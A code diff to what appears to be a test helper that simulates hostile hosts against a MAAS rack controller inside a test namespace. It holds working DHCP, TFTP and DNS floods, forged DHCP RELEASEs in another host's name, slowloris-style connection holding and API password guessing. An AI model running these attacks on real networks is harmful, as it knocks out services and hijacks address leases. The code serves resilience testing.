@@ -1,4 +1,4 @@
-// What hostile hosts do. `attackers.ts NAME RACK SECONDS ADDRESS…` attacks the rack from the addresses, which are this host's, for so many
+// What hostile hosts do. `attackers.ts NAME RACK SECONDS ADDRESS… [WORD]` attacks the rack from the addresses, which are this host's, for so many
 // seconds, and prints `attacking` once it is at full force. It runs in a namespace of a test and reaches nothing else.
 
 import { createSocket, type Socket as UdpSocket } from 'node:dgram';
@@ -8,6 +8,7 @@ import { sleep, systemClock } from '../../src/clock.ts';
 import { ipv4, mac } from '../../src/net/address.ts';
 import { clientBytes, hw, ip } from '../dhcp/lab.ts';
 import { queryBytes } from '../dns/fixture.ts';
+import { authorization } from './oauth.ts';
 
 const BOOT_PORT = 5248;
 const API_PORT = 5240;
@@ -17,7 +18,9 @@ const AGAIN_MS = 10;
 /** Of the wire: the address of all hosts needs a route that these hosts do not have. */
 const BROADCAST = '10.77.11.255';
 
-const [name = '', rack = '', seconds = '', ...addresses] = process.argv.slice(2);
+const [name = '', rack = '', seconds = '', ...words] = process.argv.slice(2);
+const addresses = words.filter((word) => /^[\d.]+$/.test(word));
+const [further = ''] = words.filter((word) => !addresses.includes(word));
 const endsAt = systemClock.now() + Number(seconds) * 1000;
 const isOver = (): boolean => systemClock.now() >= endsAt;
 const first = addresses[0] ?? '';
@@ -29,7 +32,7 @@ function tell(): void {
   isTold = true;
 }
 
-async function udp(address: string, port = 0): Promise<UdpSocket> {
+async function udp(address = first, port = 0): Promise<UdpSocket> {
   const socket = createSocket('udp4');
   socket.on('error', () => undefined);
   socket.bind({ address, port });
@@ -53,7 +56,9 @@ async function flood(
   }
 }
 
-const everyAddress = (): Promise<UdpSocket[]> => Promise.all(addresses.map((address) => udp(address)));
+/** `times` sockets of each address. */
+const everyAddress = (times = 1): Promise<UdpSocket[]> =>
+  Promise.all(Array.from({ length: times }, () => addresses.map((address) => udp(address))).flat());
 
 /** Opens `count` connections from the addresses in turn, each again when it was closed; `greet` says what it sends. */
 async function holdConnections(port: number, count: number, greet: (socket: Socket) => void): Promise<void> {
@@ -89,7 +94,7 @@ async function holdTransfers(count: number): Promise<void> {
   const request = readRequest(['timeout', '255', 'blksize', '1428']);
   const sockets: UdpSocket[] = [];
   for (let index = 0; index < count && !isOver(); index += 1) {
-    const socket = await udp(first);
+    const socket = await udp(addresses[index % addresses.length]);
     let heard = 0;
     socket.on('message', (_bytes, from) => {
       heard += 1;
@@ -121,16 +126,17 @@ async function discoverFlood(perSecond: number): Promise<void> {
   socket.close();
 }
 
-/** Datagrams of a relay agent that there is none: DISCOVERs for the whole range, and RELEASEs of all its addresses. */
+/** Datagrams of a relay agent that does not exist: DISCOVERs for the whole range, and RELEASEs of all its addresses in the holder's name. */
 async function forgeRelay(perSecond: number): Promise<void> {
   const giaddr = ip(addresses[1] ?? '');
   const range = ip(addresses[2] ?? '');
-  const holder = hw(addresses[3] ?? '');
+  const holder = hw(further);
   const socket = await udp(first);
   await flood([socket], perSecond, 67, (index) => {
     const client = { mac: mac(0x020000000000 + (index % 500)), xid: index, giaddr };
     if (index % 2 === 0) return clientBytes({ ...client, type: 'discover' });
-    return clientBytes({ ...client, mac: holder, type: 'release', ciaddr: ipv4(range + ((index >> 1) % 200)) });
+    const ciaddr = ipv4(range + ((index >> 1) % 200));
+    return clientBytes({ ...client, mac: holder, type: 'release', ciaddr, server: ip(rack) });
   });
 }
 
@@ -145,7 +151,7 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
   'discover-flood': () => discoverFlood(1000),
   'forged-relay': () => forgeRelay(500),
   'dhcp-inform-absent': async () => {
-    await flood(await everyAddress(), 2000, 67, (index) =>
+    await flood(await everyAddress(), 12_000, 67, (index) =>
       clientBytes({
         type: 'inform',
         mac: mac(0x020000000000 + index),
@@ -154,24 +160,25 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
       }),
     );
   },
-  'tftp-hold': () => holdTransfers(2048),
+  'tftp-hold': () => holdTransfers(3000),
   'tftp-absent': async () =>
-    flood(await everyAddress(), 2000, 69, () => readRequest(['blksize', '1428', 'windowsize', '64'])),
-  'dns-absent': async () => flood(await everyAddress(), 4000, 53, () => queryBytes('rack.maas', 1)),
-  'dns-silent-zone': async () =>
+    // What comes from the same port again is a copy, and starts nothing.
+    flood(await everyAddress(20), 12_000, 69, () => readRequest(['blksize', '1428', 'windowsize', '64'])),
+  'dns-absent': async () => flood(await everyAddress(), 12_000, 53, () => queryBytes('rack.maas', 1)),
+  'dns-silent-zones': async () =>
     flood(await everyAddress(), 2000, 53, (index) =>
-      queryBytes(`n${index}-${random(1e9)}.silent.example`, 1, { id: index & 0xffff }),
+      queryBytes(`n${index}-${random(1e9)}.silent${index % 8}.example`, 1, { id: index & 0xffff }),
     ),
   'dns-random-names': async () =>
     flood(await everyAddress(), 2000, 53, (index) =>
       queryBytes(`n${index}-${random(1e9)}.outside.example`, 1, { id: index & 0xffff }),
     ),
   'dns-tcp-idle': () => holdConnections(53, 400, () => undefined),
-  'boot-idle': () => holdConnections(BOOT_PORT, 1200, () => undefined),
+  'boot-idle': () => holdConnections(BOOT_PORT, 2400, () => undefined),
   'boot-slow-headers': () =>
-    holdConnections(BOOT_PORT, 1200, (socket) => socket.write('GET /lpxelinux.0 HTTP/1.1\r\nX: ')),
+    holdConnections(BOOT_PORT, 2400, (socket) => socket.write('GET /lpxelinux.0 HTTP/1.1\r\nX: ')),
   'boot-slow-posts': () =>
-    holdConnections(BOOT_PORT, 320, (socket) => {
+    holdConnections(BOOT_PORT, 900, (socket) => {
       socket.write(headers('/MAAS/api/1.0/nodes/', [FORM, 'Content-Length: 2000']));
       const drip = (): void => {
         if (socket.destroyed || isOver()) return;
@@ -181,13 +188,13 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
       drip();
     }),
   'boot-slow-readers': () =>
-    holdConnections(BOOT_PORT, 600, (socket) => {
+    holdConnections(BOOT_PORT, 2000, (socket) => {
       socket.pause();
       socket.write(`GET /large HTTP/1.1\r\nHost: ${rack}\r\n\r\n`);
     }),
-  'api-connections': () => holdConnections(API_PORT, 1200, () => undefined),
+  'api-connections': () => holdConnections(API_PORT, 2400, () => undefined),
   'api-slow-posts': () =>
-    holdConnections(API_PORT, 600, (socket) =>
+    holdConnections(API_PORT, 2400, (socket) =>
       socket.write(headers('/MAAS/api/1.0/nodes/', [FORM, 'Content-Length: 2000'])),
     ),
   'api-passwords': () => {
@@ -199,6 +206,12 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
     };
     return holdConnections(API_PORT, 128, guess);
   },
+  'api-followers': () =>
+    holdConnections(API_PORT, 200, (socket) =>
+      socket.write(
+        `GET /MAAS/api/2.0/events/?op=follow HTTP/1.1\r\nHost: ${rack}\r\nAuthorization: ${authorization(further)}\r\n\r\n`,
+      ),
+    ),
   'enlist-flood': () =>
     holdConnections(BOOT_PORT, 64, (socket) => {
       const body = enlistment();
